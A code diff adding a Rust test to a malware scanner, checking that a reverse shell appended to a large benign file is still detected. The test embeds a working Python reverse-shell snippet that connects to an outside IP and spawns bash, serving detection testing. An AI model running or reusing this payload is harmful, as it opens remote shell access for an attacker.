@@ -105,3 +105,33 @@ fn loader_refuses_tampering() {
     assert!(Model::from_bytes(&b).is_err());
     assert!(Model::from_bytes(&bytes[..n - 1]).is_err());
 }
+
+#[test]
+fn payload_inside_large_benign_file_is_found() {
+    // ~60 KB of benign template code with a reverse shell appended: the whole-file vector is
+    // diluted, the tail window is not.
+    let m = model();
+    let dir = root().join("data");
+    let ben = templates::load_templates(&dir.join("benign-templates.tpl.gz")).unwrap();
+    let mut text = String::new();
+    'outer: for k in 0..50 {
+        for t in &ben {
+            for v in variants(t, 1, 1000 + k, false) {
+                text.push_str(&v.text);
+                text.push('\n');
+                if text.len() > 60_000 {
+                    break 'outer;
+                }
+            }
+        }
+    }
+    let clean = scan(&m, text.as_bytes());
+    assert!(!clean.malicious, "{clean:?}");
+    text.push_str("import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/bash')\n");
+    let r = scan(&m, text.as_bytes());
+    assert!(r.malicious, "{r:?}");
+    assert!(
+        r.top_reasons[0].starts_with("suspicious region at bytes"),
+        "{r:?}"
+    );
+}
